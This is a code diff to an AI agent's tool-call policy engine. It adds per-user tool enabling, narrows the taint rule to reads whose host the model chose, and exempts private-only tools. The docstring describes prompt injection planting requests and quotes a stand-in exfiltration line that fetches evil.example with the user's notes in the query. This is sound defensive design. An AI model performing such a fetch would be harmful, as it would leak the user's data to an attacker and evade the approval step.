@@ -1,11 +1,16 @@
 """The policy decision for one tool call: allow, ask or deny, and the rule that decided.
 
 Precedence, strongest first (documented in docs/policy.md):
+0. not enabled — the tool is switched off for this user (`dadang tools enable|disable`).
 1. deny — from the tool's rule, else from its risk level's rule. Nothing lifts a deny.
 2. taint — after untrusted content entered the turn, any call that is not a plain read asks, and
-   a read that would contact a host the user did not name in their message asks too (a classic
-   exfiltration path: "fetch https://evil.example/?q=<your notes>"; a host allowed by the
-   scopes is readable, not trusted with data). Grants and `allow` rules do not apply.
+   a read whose URL the model chose (`web_read`, `file_download`) that would contact a host the
+   user did not name in their message asks too (a classic exfiltration path: "fetch
+   https://evil.example/?q=<your notes>"; a host allowed by the scopes is readable, not trusted
+   with data). API reads go to the host fixed in the tool file the user installed, so they do
+   not ask. Grants and `allow` rules do not apply.
+   Tools whose effects stay with the user (`Tool.stays_private`: a file sent to their own
+   chat) are exempt: they cannot carry data anywhere.
 3. a standing grant ("Always allow this") for the tool (and target) — never for payments.
 4. the tool's rule (`tools:`), else its risk level's rule (`risk:`), else `unknown_tool`.
 """
@@ -17,7 +22,7 @@ from dataclasses import dataclass
 from typing import Any
 
 from agent.policy.rules import Decision, Policy
-from automation.tools.base import NETWORK_READS, RiskLevel, Tool
+from automation.tools.base import CHOSEN_HOST_READS, RiskLevel, Tool
 from memory.grants import GrantStore
 
 _HOST = re.compile(
@@ -62,6 +67,12 @@ class PolicyEngine:
         self.policy = policy
         self._grants = grants
 
+    def forbids(self, name: str, tool: Tool[Any] | None) -> bool:
+        """Whether every call of the tool is denied (then the model is not even shown it)."""
+        named = self.policy.tool_rule(name)
+        base, _ = named if named is not None else self.policy.risk_rule(tool.risk if tool else None)
+        return base is Decision.DENY
+
     async def decide(
         self,
         *,
@@ -71,8 +82,21 @@ class PolicyEngine:
         target: str,
         tainted: bool = False,
         trusted_hosts: frozenset[str] = frozenset(),
+        enabled: bool = True,
     ) -> Verdict:
-        """The verdict for one call of `name` (a tool that may not exist: then it is unknown)."""
+        """The verdict for one call of `name` (a tool that may not exist: then it is unknown).
+
+        `enabled` False: the tool is not switched on for this user (`dadang tools enable`).
+        """
+        if not enabled:
+            return Verdict(
+                decision=Decision.DENY,
+                rule="not_enabled",
+                reason=(
+                    f"{name} is not enabled for this user; the owner can switch it on with "
+                    f"`dadang tools enable {name} --user USER`"
+                ),
+            )
         risk: RiskLevel | None = tool.risk if tool is not None else None
         named = self.policy.tool_rule(name)
         base, rule = named if named is not None else self.policy.risk_rule(risk)
@@ -85,7 +109,7 @@ class PolicyEngine:
                 reason=f"the policy forbids {name} ({level} risk; rule {rule} in policy.yaml)",
             )
         always = risk is not RiskLevel.PAYMENT and self.policy.rules.approvals.always_allow
-        if tainted:
+        if tainted and not (tool is not None and tool.stays_private):
             if risk is not RiskLevel.READ:
                 return Verdict(
                     decision=Decision.ASK,
@@ -95,7 +119,7 @@ class PolicyEngine:
                         "message from someone else) that could have planted the request"
                     ),
                 )
-            if tool is not None and tool.reads & NETWORK_READS and target:
+            if tool is not None and tool.reads & CHOSEN_HOST_READS and target:
                 host = target.lower()
                 if host not in trusted_hosts:
                     return Verdict(
